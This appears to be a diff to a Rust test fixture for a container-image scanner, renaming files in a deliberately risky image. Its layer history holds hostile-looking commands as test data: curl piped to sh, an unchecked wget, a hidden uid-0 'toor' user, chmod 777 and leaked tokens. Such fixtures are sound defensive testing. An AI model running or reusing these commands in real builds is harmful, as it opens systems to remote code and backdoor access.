@@ -122,8 +122,8 @@ fn risky_image(dir: &Path) -> (std::path::PathBuf, Vec<Vec<u8>>) {
     let app = mode_layer(&[
         M::File("usr/local/bin/bash", 0o4755, 0, None),
         M::File("usr/local/bin/python3.11", 0o2755, 50, None),
-        M::File("usr/local/bin/helper", 0o4755, 0, None),
-        M::File("opt/tool/agent", 0o755, 0, Some(admin)),
+        M::File("usr/local/bin/backupctl", 0o4755, 0, None),
+        M::File("opt/tool/netprobe", 0o755, 0, Some(admin)),
         M::Dir("usr/share/app/cache", 0o777),
         M::File("etc/app.conf", 0o666, 0, None),
         // Near misses: scratch space and sticky directories.
@@ -132,10 +132,10 @@ fn risky_image(dir: &Path) -> (std::path::PathBuf, Vec<Vec<u8>>) {
         M::Dir("srv/shared", 0o1777),
         M::File("etc/passwd", 0o644, 0, None),
     ]);
-    // Deletes the helper; re-lists the world-writable directory unchanged (as a layer
+    // Deletes backupctl; re-lists the world-writable directory unchanged (as a layer
     // adding a file below it does): not a new finding.
     let cleanup = mode_layer(&[
-        M::Whiteout("usr/local/bin/.wh.helper"),
+        M::Whiteout("usr/local/bin/.wh.backupctl"),
         M::Dir("usr/share/app/cache", 0o777),
         M::File("usr/share/app/cache/new", 0o644, 0, None),
     ]);
@@ -145,7 +145,7 @@ fn risky_image(dir: &Path) -> (std::path::PathBuf, Vec<Vec<u8>>) {
         {"created_by": "/bin/sh -c #(nop)  ENV APP_PASSWORD=hunter2hunter2", "empty_layer": true},
         {"created_by": "/bin/sh -c #(nop)  ENV GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D", "empty_layer": true},
         {"created_by": "|1 NPM_TOKEN=npm_s3cr3tvalue /bin/sh -c curl -fsSL https://example.invalid/install.sh | sh && chmod -R 777 /usr/share/app && useradd -o -u 0 -g 0 toor && wget --no-check-certificate -q https://example.invalid/x"},
-        {"created_by": "/bin/sh -c rm /usr/local/bin/helper && curl -fsSL https://example.invalid/x.tgz | tar xz"},
+        {"created_by": "/bin/sh -c rm /usr/local/bin/backupctl && curl -fsSL https://example.invalid/x.tgz | tar xz"},
     ]);
     let config = serde_json::json!({"Env": ["PATH=/usr/bin", "APP_PASSWORD=hunter2hunter2", "GPG_KEY=A035C8"]});
     let p = dir.join("risky.tar");
